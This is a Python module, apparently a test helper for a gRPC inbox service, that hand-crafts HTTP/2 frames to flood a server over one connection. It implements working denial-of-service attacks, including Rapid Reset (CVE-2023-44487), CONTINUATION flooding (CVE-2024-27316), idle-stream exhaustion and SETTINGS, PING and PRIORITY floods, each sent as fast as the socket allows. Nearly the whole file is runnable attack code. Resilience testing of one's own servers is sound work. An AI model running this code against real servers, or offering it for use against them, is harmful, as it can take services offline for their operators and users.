"""Frames of HTTP/2 (RFC 9113), written by hand: what a hostile client may send and no library would."""

import socket
import struct
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION, GOAWAY = 0, 1, 2, 3, 4, 6, 9, 7
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that is neither indexed nor Huffman coded (RFC 7541 §6.2.2); both shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


REQUEST = b"".join(
    literal(*h)
    for h in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/parvis.inbox.v1.InboxService/ListConversations"),
        (b":authority", b"a"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


class Http2Flood:
    """One connection that sends one kind of frames as fast as it can, until the server ends it."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self._peer = socket.create_connection((host, int(port)), timeout=5)
        self._peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.sent, self.refused = 0, False

    def _batch(self, kind, stream):
        """Frames of one turn, 100 of what is meant, and the next free stream."""
        if kind == "rapid_reset":  # CVE-2023-44487
            out = b"".join(
                frame(HEADERS, END_HEADERS, s, REQUEST) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                for s in range(stream, stream + 200, 2)
            )
            return out, stream + 200
        if kind == "idle_streams":  # opened and left open
            out = b"".join(frame(HEADERS, END_HEADERS, s, REQUEST) for s in range(stream, stream + 200, 2))
            return out, stream + 200
        if kind == "settings":
            return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100, stream
        if kind == "ping":
            return frame(PING, 0, 0, b"12345678") * 100, stream
        if kind == "priority":
            return (
                b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", 0, 1)) for s in range(stream, stream + 200, 2)),
                stream + 200,
            )
        if kind == "header_list":  # many small headers on one stream, which is left open
            block = REQUEST + literal(b"x", b"y" * 100) * 300
            parts = [block[i : i + 16000] for i in range(0, len(block), 16000)]
            out = frame(HEADERS, 0, stream, parts[0]) + b"".join(frame(CONTINUATION, 0, stream, p) for p in parts[1:])
            return out + frame(CONTINUATION, END_HEADERS, stream), stream + 2
        if kind == "continuation":  # a header block without end: CVE-2024-27316 and its kin
            first = frame(HEADERS, 0, stream, REQUEST) if stream == 1 else b""
            return first + frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 60) * 100) * 100, 3
        raise ValueError(kind)

    def run(self, kind, seconds):
        deadline, stream = time.monotonic() + seconds, 1
        self._peer.settimeout(1.0)
        try:
            while time.monotonic() < deadline and stream < 2**31 - 1000:
                batch, stream = self._batch(kind, stream)
                self._peer.sendall(batch)
                self.sent += 100
                self._drain()
        except OSError:
            self.refused = True
        self._peer.close()

    def _drain(self):
        """Reads what has come, so that the server is not held back by us; notices the end."""
        self._peer.setblocking(False)
        try:
            while True:
                part = self._peer.recv(1 << 20)
                if not part:
                    raise ConnectionResetError
        except BlockingIOError:
            pass
        finally:
            self._peer.settimeout(1.0)
